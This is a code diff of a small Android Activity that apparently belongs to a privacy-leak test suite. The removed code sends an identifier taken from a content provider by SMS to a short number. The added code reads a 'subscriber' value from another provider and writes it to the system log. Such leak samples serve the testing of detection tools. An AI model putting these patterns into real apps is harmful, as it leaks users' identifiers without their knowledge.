@@ -1,27 +1,19 @@
 package cn.privlens.suite.provider_call;
 
-import android.app.*;
-import android.content.*;
-import android.location.*;
+import android.app.Activity;
 import android.net.Uri;
-import android.os.*;
-import android.telephony.*;
-import android.util.*;
-import android.view.*;
-import android.webkit.*;
-import android.widget.*;
-import java.io.*;
-import java.net.*;
-import java.util.*;
-import java.util.concurrent.*;
-import java.util.regex.*;
+import android.os.Bundle;
+import android.util.Log;
 
 public class Main extends Activity {
+    private static final Uri KEYS = Uri.parse("content://cn.privlens.suite.provider_call.keys");
+
     @Override
     protected void onCreate(Bundle state) {
         super.onCreate(state);
-        Bundle answer = getContentResolver().call(Uri.parse("content://cn.privlens.suite.provider_call.store"), "get", null, null);
-        SmsManager.getDefault().sendTextMessage("10690000", null, answer.getString("id"), null, null);
+        Bundle answer = getContentResolver().call(KEYS, "subscriber", null, null);
+        if (answer != null) {
+            Log.i("keys", answer.getString("value", "none"));
+        }
     }
-
 }
